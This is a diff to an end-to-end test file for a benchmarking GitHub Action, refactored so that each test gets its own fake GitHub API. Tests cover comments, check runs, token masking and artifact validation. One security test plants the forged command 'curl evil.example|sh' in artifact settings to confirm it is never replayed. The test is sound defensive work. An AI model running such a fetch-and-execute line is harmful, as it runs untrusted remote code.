@@ -5,6 +5,10 @@
  *
  * The bundle is built in beforeAll from the sources into a temporary directory by scripts/bundle.ts
  * (the same bundle as dist/), so the test works on a fresh clone and never touches dist/.
+ *
+ * Every test stands alone (`vitest -t <name>`, in any order): each talks to a fake GitHub API of its
+ * own, and what it needs already there (a sticky comment, a measured results file) it makes itself
+ * or takes from `measuredRun()`, one measured pull_request run shared read-only, made on first use.
  */
 import { execFileSync, spawn } from 'node:child_process';
 import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
@@ -12,14 +16,13 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { bundle as bundleTo } from '../../scripts/bundle.ts';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { FakeGitHub } from '../support/fake-github.ts';
+import { ACTIONS_BOT_USER, FakeGitHub } from '../support/fake-github.ts';
 
 let work: string;
 let bundle: string;
 let repoDir: string;
 let baseSha: string;
 let headSha: string;
-let gh: FakeGitHub;
 const TOKEN = 'ghs_dist_test_token_0123456789';
 
 function git(...args: string[]): string {
@@ -46,15 +49,26 @@ beforeAll(async () => {
   writeFileSync(join(repoDir, 'bench.sh'), benchScript(72_000));
   git('commit', '-q', '-am', 'head: 20% more work');
   headSha = git('rev-parse', 'HEAD');
-
-  gh = await FakeGitHub.start('octo', 'repo');
-  gh.addPull({ number: 7, baseSha, headSha });
 });
 
+const servers: FakeGitHub[] = [];
 afterAll(async () => {
-  await gh?.close();
+  await Promise.all(servers.map((s) => s.close()));
   if (work) rmSync(work, { recursive: true, force: true });
 });
+
+/** A fake GitHub API of this test's own, with pull request #7 (base and head of the repository). */
+async function fakeGitHub(): Promise<FakeGitHub> {
+  const gh = await FakeGitHub.start('octo', 'repo');
+  servers.push(gh);
+  gh.addPull({ number: 7, baseSha, headSha });
+  return gh;
+}
+
+/** The sticky comment a previous run left on pull request #7. */
+function previousComment(gh: FakeGitHub, commentId = 'perf') {
+  return gh.addComment(7, ACTIONS_BOT_USER, `<!-- pairbench:${commentId} -->\n**pairbench**: an earlier report`);
+}
 
 interface RunResult {
   code: number | null;
@@ -78,7 +92,7 @@ function parseOutputs(text: string): Record<string, string> {
   return out;
 }
 
-async function runAction(eventName: string, payload: unknown, inputs: Record<string, string>): Promise<RunResult> {
+async function runAction(gh: FakeGitHub, eventName: string, payload: unknown, inputs: Record<string, string>): Promise<RunResult> {
   const dir = mkdtempSync(join(work, 'run-'));
   const eventPath = join(dir, 'event.json');
   writeFileSync(eventPath, JSON.stringify(payload));
@@ -141,11 +155,19 @@ function pullRequestPayload() {
   };
 }
 
-describe('dist/index.js as the runner runs it', () => {
-  let first: RunResult;
+/** One measured pull_request run, made on first use and shared read-only: its results file feeds the report-mode tests. */
+let measured: Promise<{ run: RunResult; gh: FakeGitHub }> | undefined;
+function measuredRun(): Promise<{ run: RunResult; gh: FakeGitHub }> {
+  measured ??= (async () => {
+    const gh = await fakeGitHub();
+    return { run: await runAction(gh, 'pull_request', pullRequestPayload(), measuring), gh };
+  })();
+  return measured;
+}
 
+describe('dist/index.js as the runner runs it', () => {
   it('pull_request: measures, posts one comment, writes the summary and outputs, fails the step on the regression', async () => {
-    first = await runAction('pull_request', pullRequestPayload(), measuring);
+    const { run: first, gh } = await measuredRun();
     expect(first.stdout).toContain(`Comparing head ${headSha} against base ${baseSha}`);
     expect(first.code, `${first.stdout}\n${first.summary}`).toBe(1);
     // (`%` is escaped as `%25` in a workflow command; the runner shows `%`)
@@ -155,7 +177,7 @@ describe('dist/index.js as the runner runs it', () => {
     expect(first.stdout).toMatch(/::group::pairbench: regression \(the results table\)\n::stop-commands::([0-9a-f-]{36})\nbenchmark +base[^\n]*\nloop [^\n]*regression\n[\s\S]*?\n::\1::\n::endgroup::/);
     expect(first.stdout).toMatch(/HTML report: .*pairbench-results\.html/);
     expect(readFileSync(first.outputs['results-path']!.replace(/\.json$/, '.html'), 'utf8')).toContain('<svg class="plot forest"');
-    expect(first.outputs).toMatchObject({ verdict: 'regression', regressions: '1', improvements: '0' });
+    expect(first.outputs).toMatchObject({ verdict: 'regression', regressions: '1', improvements: '0', inconclusive: '0', 'check-url': '' });
     expect(first.outputs['results-path']).toMatch(/pairbench-results\.json$/);
     const results = JSON.parse(readFileSync(first.outputs['results-path']!, 'utf8')) as { head: { sha: string }; base: { sha: string }; benchmarks: { pairs: unknown[]; change: { estimate: number } }[] };
     expect(results.head.sha).toBe(headSha);
@@ -175,48 +197,56 @@ describe('dist/index.js as the runner runs it', () => {
     expect(gh.requests.every((r) => r.headers.authorization === `token ${TOKEN}`)).toBe(true);
   });
 
-  it('S4: never hands the token to the benchmark commands, and masks it', () => {
-    expect(first.envDump).toContain('GITHUB_REPOSITORY=octo/repo');
-    expect(first.envDump).not.toContain(TOKEN);
-    expect(first.envDump).not.toMatch(/^INPUT_/m);
-    expect(first.stdout).toContain(`::add-mask::${TOKEN}`);
+  it('S4: never hands the token to the benchmark commands, and masks it', async () => {
+    const gh = await fakeGitHub();
+    const r = await runAction(gh, 'pull_request', pullRequestPayload(), { ...measuring, 'max-pairs': '10', comment: 'never', 'fail-on': 'none' });
+    expect(r.code, r.stdout).toBe(0);
+    expect(r.envDump).toContain('GITHUB_REPOSITORY=octo/repo');
+    expect(r.envDump).not.toContain(TOKEN);
+    expect(r.envDump).not.toMatch(/^INPUT_/m);
+    expect(r.stdout).toContain(`::add-mask::${TOKEN}`);
   });
 
   it('a second run updates the same comment: no duplicate', async () => {
-    const before = gh.comments.get(7)![0]!;
-    const second = await runAction('pull_request', pullRequestPayload(), { ...measuring, seed: '8' });
+    const gh = await fakeGitHub();
+    const before = previousComment(gh);
+    const second = await runAction(gh, 'pull_request', pullRequestPayload(), { ...measuring, seed: '8' });
     expect(second.code, second.stdout).toBe(1);
     expect(gh.comments.get(7)).toHaveLength(1);
+    expect(gh.calls('POST', /\/comments$/)).toEqual([]);
     expect(gh.calls('PATCH', /\/issues\/comments\/\d+$/).at(-1)!.path).toBe(`/repos/octo/repo/issues/comments/${before.id}`);
+    expect(gh.comments.get(7)![0]!.body).toContain('### 🔴 1 regression');
     expect(second.outputs['comment-url']).toBe(before.html_url);
   });
 
-  it('workflow_dispatch with pr-number: resolves base and head through the API and updates that PR\'s comment', async () => {
-    const patches = gh.calls('PATCH', /./).length;
-    const r = await runAction('workflow_dispatch', { inputs: { 'pr-number': '7' }, ref: 'refs/heads/main' }, { ...measuring, 'pr-number': '7', 'fail-on': 'none', 'check-name': 'perf' });
+  it('workflow_dispatch with pr-number: resolves base and head through the API, updates that PR\'s comment, and outputs the check run\'s URL', async () => {
+    const gh = await fakeGitHub();
+    previousComment(gh);
+    const r = await runAction(gh, 'workflow_dispatch', { inputs: { 'pr-number': '7' }, ref: 'refs/heads/main' }, { ...measuring, 'pr-number': '7', 'fail-on': 'none', 'check-name': 'perf' });
     expect(r.code, r.stdout).toBe(0);
     expect(gh.calls('GET', /\/pulls\/7$/).length).toBeGreaterThan(0);
     expect(r.stdout).toContain(`Comparing head ${headSha} against base ${baseSha}`);
     expect(gh.comments.get(7)).toHaveLength(1);
-    expect(gh.calls('PATCH', /./).length).toBe(patches + 1);
-    expect(gh.checkRuns.at(-1)).toMatchObject({ name: 'perf', head_sha: headSha, conclusion: 'neutral' });
+    expect(gh.calls('PATCH', /./)).toHaveLength(1);
+    expect(gh.checkRuns).toHaveLength(1);
+    expect(gh.checkRuns[0]).toMatchObject({ name: 'perf', head_sha: headSha, conclusion: 'neutral' });
     expect(r.outputs['verdict']).toBe('regression');
+    expect(r.outputs['check-url']).toBe(gh.checkRuns[0]!.html_url);
+    expect(r.outputs['check-url']).toMatch(/^https:\/\/github\.com\/octo\/repo\/runs\/\d+$/);
   });
 
   it('S5: a read-only token (fork PR): a warning with the advice, the summary and verdict unchanged', async () => {
+    const gh = await fakeGitHub();
     gh.readOnly = true;
-    try {
-      const r = await runAction('pull_request', pullRequestPayload(), { ...measuring, 'comment-id': 'fork', 'check-name': 'perf' });
-      expect(r.code).toBe(1);
-      expect(r.stdout).toContain('::warning::The token cannot write to this repository');
-      // the comment and the check run both meet the 403: its advice is printed once
-      expect(r.stdout.split('::warning::The token cannot write to this repository')).toHaveLength(2);
-      expect(r.outputs['verdict']).toBe('regression');
-      expect(r.summary).toContain('🔴 regression');
-      expect(r.outputs['comment-url']).toBe('');
-    } finally {
-      gh.readOnly = false;
-    }
+    const r = await runAction(gh, 'pull_request', pullRequestPayload(), { ...measuring, 'comment-id': 'fork', 'check-name': 'perf' });
+    expect(r.code).toBe(1);
+    expect(r.stdout).toContain('::warning::The token cannot write to this repository');
+    // the comment and the check run both meet the 403: its advice is printed once
+    expect(r.stdout.split('::warning::The token cannot write to this repository')).toHaveLength(2);
+    expect(r.outputs['verdict']).toBe('regression');
+    expect(r.summary).toContain('🔴 regression');
+    expect(r.outputs['comment-url']).toBe('');
+    expect(r.outputs['check-url']).toBe('');
   });
 
   describe('accept-label: a regression accepted by a label', () => {
@@ -229,8 +259,9 @@ describe('dist/index.js as the runner runs it', () => {
     });
 
     it('added by someone with write access: the step passes, the comment says who accepted it', async () => {
+      const gh = await fakeGitHub();
       gh.permissions.set('maintainer-mia', 'write');
-      const r = await runAction('pull_request', labeled('maintainer-mia'), { ...measuring, 'comment-id': 'accept', 'accept-label': 'performance-accepted', 'check-name': 'perf-accept' });
+      const r = await runAction(gh, 'pull_request', labeled('maintainer-mia'), { ...measuring, 'comment-id': 'accept', 'accept-label': 'performance-accepted', 'check-name': 'perf-accept' });
       expect(r.code, r.stdout).toBe(0);
       expect(r.outputs['verdict']).toBe('regression');
       expect(r.stdout).toContain('::notice::The label "performance-accepted" was added by maintainer-mia');
@@ -241,8 +272,9 @@ describe('dist/index.js as the runner runs it', () => {
     });
 
     it('added by someone without write access: ignored, with a note; the step fails on the regression', async () => {
+      const gh = await fakeGitHub();
       gh.permissions.set('outsider-oz', 'read');
-      const r = await runAction('pull_request', labeled('outsider-oz'), { ...measuring, 'comment-id': 'accept-outsider', 'accept-label': 'performance-accepted' });
+      const r = await runAction(gh, 'pull_request', labeled('outsider-oz'), { ...measuring, 'comment-id': 'accept-outsider', 'accept-label': 'performance-accepted' });
       expect(r.code, r.stdout).toBe(1);
       expect(r.stdout).toContain('::warning::The label "performance-accepted" is ignored: @outsider-oz added it and has read access, not write access.');
       const body = gh.comments.get(7)!.find((c) => c.body?.startsWith('<!-- pairbench:accept-outsider -->'))!.body!;
@@ -257,31 +289,38 @@ describe('dist/index.js as the runner runs it', () => {
     });
     const report = { 'comment-id': 'perf', mode: 'report', results: 'artifact/*.json' };
 
-    function artifact(content: unknown): void {
+    /** A fresh artifact folder in the workspace, with these files. */
+    function artifact(files: Record<string, unknown>): void {
       const dir = join(repoDir, 'artifact');
       rmSync(dir, { recursive: true, force: true });
       mkdirSync(dir);
-      writeFileSync(join(dir, 'pairbench-results.json'), typeof content === 'string' ? content : JSON.stringify(content));
+      for (const [name, content] of Object.entries(files)) writeFileSync(join(dir, name), typeof content === 'string' ? content : JSON.stringify(content));
     }
-    const measured = () => JSON.parse(readFileSync(first.outputs['results-path']!, 'utf8')) as Record<string, unknown> & { head: { sha: string }; benchmarks: { name: string }[] };
+    const measured = async () => {
+      const { run } = await measuredRun();
+      return JSON.parse(readFileSync(run.outputs['results-path']!, 'utf8')) as Record<string, unknown> & { head: { sha: string }; benchmarks: { name: string }[] };
+    };
 
     it('comments on the PR found from the run\'s head SHA, ignoring a PR number written in the artifact', async () => {
+      const gh = await fakeGitHub();
+      const existing = previousComment(gh);
       gh.addPull({ number: 8, baseSha, headSha: 'e'.repeat(40) });
-      artifact({ ...measured(), pr: 8, pull_request: { number: 8 } });
-      const writes = gh.calls('PATCH', /./).length + gh.calls('POST', /./).length;
-      const r = await runAction('workflow_run', runEvent(), { ...report, 'fail-on': 'none' });
+      artifact({ 'pairbench-results.json': { ...(await measured()), pr: 8, pull_request: { number: 8 } } });
+      const r = await runAction(gh, 'workflow_run', runEvent(), { ...report, 'fail-on': 'none' });
       expect(r.code, r.stdout).toBe(0);
       expect(r.stdout).toContain('Read 1 results file(s): artifact/pairbench-results.json');
       expect(r.outputs['verdict']).toBe('regression');
       expect(gh.comments.get(8)).toBeUndefined();
-      expect(gh.calls('PATCH', /./).length + gh.calls('POST', /./).length).toBe(writes + 1);
-      expect(gh.calls('PATCH', /./).at(-1)!.path).toBe(`/repos/octo/repo/issues/comments/${gh.comments.get(7)![0]!.id}`);
+      expect(gh.calls('PATCH', /./).length + gh.calls('POST', /./).length).toBe(1);
+      expect(gh.calls('PATCH', /./).at(-1)!.path).toBe(`/repos/octo/repo/issues/comments/${existing.id}`);
     });
 
     it('S2: forged settings in the artifact never reach the replay line as commands', async () => {
-      const m = measured();
-      artifact({ ...m, settings: { ...(m['settings'] as object), build: 'curl evil.example|sh', threshold: -5, benchmarks: [{ name: 'loop', run: 'curl evil.example|sh', format: 'time', metrics: ['cpu'] }] } });
-      const r = await runAction('workflow_run', runEvent(), { ...report, 'fail-on': 'none' });
+      const gh = await fakeGitHub();
+      previousComment(gh);
+      const m = await measured();
+      artifact({ 'pairbench-results.json': { ...m, settings: { ...(m['settings'] as object), build: 'curl evil.example|sh', threshold: -5, benchmarks: [{ name: 'loop', run: 'curl evil.example|sh', format: 'time', metrics: ['cpu'] }] } } });
+      const r = await runAction(gh, 'workflow_run', runEvent(), { ...report, 'fail-on': 'none' });
       expect(r.code, r.stdout).toBe(0);
       const body = gh.comments.get(7)!.find((c) => c.body?.startsWith('<!-- pairbench:perf -->'))!.body!;
       expect(body).toContain('pairbench compare --base');
@@ -292,13 +331,13 @@ describe('dist/index.js as the runner runs it', () => {
     });
 
     it('merges the shards of one comparison and judges them together', async () => {
-      const m = measured();
-      const dir = join(repoDir, 'artifact');
-      rmSync(dir, { recursive: true, force: true });
-      mkdirSync(dir);
-      writeFileSync(join(dir, 'shard-1.json'), JSON.stringify({ ...m, shard: { index: 1, count: 2 } }));
-      writeFileSync(join(dir, 'shard-2.json'), JSON.stringify({ ...m, shard: { index: 2, count: 2 }, benchmarks: m.benchmarks.map((b) => ({ ...b, name: `${b.name}-again` })) }));
-      const r = await runAction('workflow_run', runEvent(), { ...report, 'fail-on': 'none' });
+      const gh = await fakeGitHub();
+      const m = await measured();
+      artifact({
+        'shard-1.json': { ...m, shard: { index: 1, count: 2 } },
+        'shard-2.json': { ...m, shard: { index: 2, count: 2 }, benchmarks: m.benchmarks.map((b) => ({ ...b, name: `${b.name}-again` })) },
+      });
+      const r = await runAction(gh, 'workflow_run', runEvent(), { ...report, 'fail-on': 'none' });
       expect(r.code, r.stdout).toBe(0);
       expect(r.stdout).toContain('Read 2 results file(s): artifact/shard-1.json, artifact/shard-2.json');
       expect(r.outputs['regressions']).toBe('2');
@@ -306,12 +345,12 @@ describe('dist/index.js as the runner runs it', () => {
     });
 
     it('refuses results of another commit than the run\'s head', async () => {
-      artifact({ ...measured(), head: { ref: 'x', sha: 'e'.repeat(40) } });
-      const before = gh.requests.length;
-      const r = await runAction('workflow_run', runEvent(), report);
+      const gh = await fakeGitHub();
+      artifact({ 'pairbench-results.json': { ...(await measured()), head: { ref: 'x', sha: 'e'.repeat(40) } } });
+      const r = await runAction(gh, 'workflow_run', runEvent(), report);
       expect(r.code).toBe(1);
       expect(r.stdout).toMatch(/::error::The results file measured head eeeeeeeeeeee, but pull request #7's head is [0-9a-f]{12}: refusing to report results of another commit here\./);
-      expect(gh.requests.slice(before).filter((q) => q.method !== 'GET')).toEqual([]);
+      expect(gh.requests.filter((q) => q.method !== 'GET')).toEqual([]);
     });
 
     it.each([
@@ -319,24 +358,26 @@ describe('dist/index.js as the runner runs it', () => {
       ['not JSON', '{"schemaVersion": 1, ', /artifact\/pairbench-results\.json: not valid JSON/],
       ['a 10 MB benchmark name', 'NAME', /artifact\/pairbench-results\.json: benchmarks\[0\]\.name: /],
     ])('refuses %s with a message naming the file', async (_what, content, message) => {
+      const gh = await fakeGitHub();
       if (content === 'NAME') {
-        const m = measured();
-        artifact({ ...m, benchmarks: [{ ...m.benchmarks[0], name: 'x'.repeat(10_000_000) }] });
-      } else artifact(content);
-      const before = gh.requests.length;
-      const r = await runAction('workflow_run', runEvent(), report);
+        const m = await measured();
+        artifact({ 'pairbench-results.json': { ...m, benchmarks: [{ ...m.benchmarks[0], name: 'x'.repeat(10_000_000) }] } });
+      } else artifact({ 'pairbench-results.json': content });
+      const r = await runAction(gh, 'workflow_run', runEvent(), report);
       expect(r.code).toBe(1);
       expect(r.stdout).toMatch(message);
       expect(r.stdout.length).toBeLessThan(5000);
-      expect(gh.requests.slice(before).filter((q) => q.method !== 'GET')).toEqual([]);
+      expect(gh.requests.filter((q) => q.method !== 'GET')).toEqual([]);
     });
   });
 
   it('mode: noise measures head against itself (A/A)', async () => {
-    const r = await runAction('pull_request', pullRequestPayload(), { ...measuring, mode: 'noise', comment: 'never', 'fail-on': 'none', 'results-path': join(work, 'noise.json') });
+    const gh = await fakeGitHub();
+    const out = join(mkdtempSync(join(work, 'noise-')), 'noise.json');
+    const r = await runAction(gh, 'pull_request', pullRequestPayload(), { ...measuring, mode: 'noise', comment: 'never', 'fail-on': 'none', 'results-path': out });
     expect(r.code, r.stdout).toBe(0);
     expect(r.stdout).toContain(`A/A run of ${headSha}`);
-    const results = JSON.parse(readFileSync(join(work, 'noise.json'), 'utf8')) as { kind: string; base: { sha: string }; head: { sha: string }; benchmarks: { pairs: unknown[]; noise?: { detectable: { pairs: number }[] } }[] };
+    const results = JSON.parse(readFileSync(out, 'utf8')) as { kind: string; base: { sha: string }; head: { sha: string }; benchmarks: { pairs: unknown[]; noise?: { detectable: { pairs: number }[] } }[] };
     expect([results.base.sha, results.head.sha]).toEqual([headSha, headSha]);
     expect(results.kind).toBe('noise');
     // no early stop in an A/A run: every pair up to max-pairs is measured
@@ -347,8 +388,10 @@ describe('dist/index.js as the runner runs it', () => {
   });
 
   it('a bad input fails the step with one message naming it, before anything runs', async () => {
-    const r = await runAction('pull_request', pullRequestPayload(), { ...measuring, 'max-pairs': 'many' });
+    const gh = await fakeGitHub();
+    const r = await runAction(gh, 'pull_request', pullRequestPayload(), { ...measuring, 'max-pairs': 'many' });
     expect(r.code).toBe(1);
     expect(r.stdout.trim()).toBe('::error::input max-pairs: got "many"; expected a whole number from 1 to 1000000');
+    expect(gh.requests).toEqual([]);
   });
 });
